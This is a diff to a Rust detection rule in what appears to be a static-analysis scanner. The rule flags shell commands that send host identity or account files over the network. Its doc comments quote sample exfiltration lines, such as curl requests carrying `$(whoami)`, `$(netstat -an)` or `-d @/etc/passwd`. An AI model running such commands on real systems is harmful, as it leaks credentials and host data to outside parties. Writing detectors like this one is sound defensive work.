@@ -20,14 +20,19 @@
 //! urllib.request.urlopen(urllib.request.Request(URL, json.dumps(data).encode()))
 //! ```
 //!
+//! A shell command that puts identity command output (`$(whoami)`,
+//! `` `hostname` ``) or an account file (`-d @/etc/passwd`) into a
+//! `curl`/`wget` request is the same act in one line
+//! ([`crate::shell`]).
+//!
 //! **False positives.** Telemetry and error-reporting clients put the host
 //! name into events they send (sentry, datadog). In library code without a
 //! traced flow the rule stays low; with a flow it is high but not critical.
 
 use sluice_model::{Confidence, Finding, Severity};
 
-use super::facts::{Call, Caps, Facts, Labels, is_dns_call};
-use super::{at_call, urls_in};
+use super::facts::{Call, Caps, Facts, Labels, is_dns_call, is_proc_sink_name};
+use super::{at_call, shell_line, urls_in};
 use crate::FileRole;
 
 /// Rule name.
@@ -47,6 +52,9 @@ fn is_sink(c: &Call) -> bool {
 /// Check one file.
 #[must_use]
 pub fn check(f: &Facts<'_>) -> Vec<Finding> {
+    if let Some(fd) = shell_beacon(f) {
+        return vec![fd];
+    }
     let sinks: Vec<&Call> = f.calls.iter().filter(|c| is_sink(c)).collect();
     if sinks.is_empty() {
         return Vec::new();
@@ -142,4 +150,38 @@ pub fn check(f: &Facts<'_>) -> Vec<Finding> {
         fd = fd.evidence(format!("sources: {}", sources.join(", ")));
     }
     vec![fd]
+}
+
+/// `curl https://x/?u=$(whoami) -d "$(netstat -an)"`, `curl -d @/etc/passwd`:
+/// a shell command that sends identity command output or a local account
+/// file. Critical where the code runs unasked, high elsewhere: no client
+/// library needs `whoami` in a URL.
+fn shell_beacon(f: &Facts<'_>) -> Option<Finding> {
+    let (c, word) = f
+        .calls
+        .iter()
+        .filter(|c| c.caps.has(Caps::PROC) || is_proc_sink_name(&c.target))
+        .find_map(|c| Some((c, crate::shell::analyse(&shell_line(c)).sends_host_data?)))?;
+    let sev = if f.file.role.runs_unasked() {
+        Severity::Critical
+    } else {
+        Severity::High
+    };
+    let mut fd = at_call(
+        f,
+        "PY101",
+        NAME,
+        sev,
+        Confidence::High,
+        "a shell command sends host identity or a local account file over the network",
+        c,
+    )
+    .evidence(format!(
+        "carried by: {}",
+        word.chars().take(120).collect::<String>()
+    ));
+    for u in urls_in(&c.strings) {
+        fd = fd.evidence(format!("sends to: {u}"));
+    }
+    Some(fd)
 }
